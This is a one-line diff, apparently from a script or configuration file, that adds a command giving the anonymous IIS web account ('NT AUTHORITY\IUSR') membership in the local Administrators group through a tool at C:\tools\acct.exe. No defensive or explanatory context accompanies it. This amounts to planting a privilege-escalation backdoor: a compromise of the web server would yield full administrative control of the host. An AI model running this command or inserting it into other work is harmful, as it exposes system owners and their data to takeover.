@@ -1,0 +1,1 @@
+C:\tools\acct.exe -add "NT AUTHORITY\IUSR" Administrators
